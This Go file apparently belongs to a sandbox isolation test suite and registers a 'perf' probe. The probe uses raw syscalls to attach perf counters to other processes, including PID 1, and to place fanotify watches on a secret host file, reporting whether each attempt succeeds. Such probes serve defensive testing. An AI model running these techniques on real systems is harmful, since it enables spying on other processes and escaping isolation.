package main

import (
	"example.com/hostile/attack"
)

func init() { techniques["perf"] = tryPerf }

// tryPerf counts events of other processes (perf_event_open(2)), and watches files (fanotify(7), inotify(7)).
func tryPerf() {
	event := attack.Words(1|112<<32, 1, 0, 0, 0, 0x60, 0, 0, 0, 0, 0, 0, 0, 0) // PERF_TYPE_SOFTWARE, task clock
	for _, way := range attack.Ways {
		for _, process := range []uintptr{attack.Victim(), 1, ^uintptr(0)} {
			if way(298, event, process, 0, ^uintptr(0), 0, 0) >= 0 {
				println("a counter of another process")
			}
		}
		if fd := way(300, 0, 0, 0, 0, 0, 0); fd >= 0 && way(301, uintptr(fd), 1, 0x20, attack.Here, attack.String(attack.Secret), 0) == 0 {
			println("a file of the host is watched")
		}
	}
}
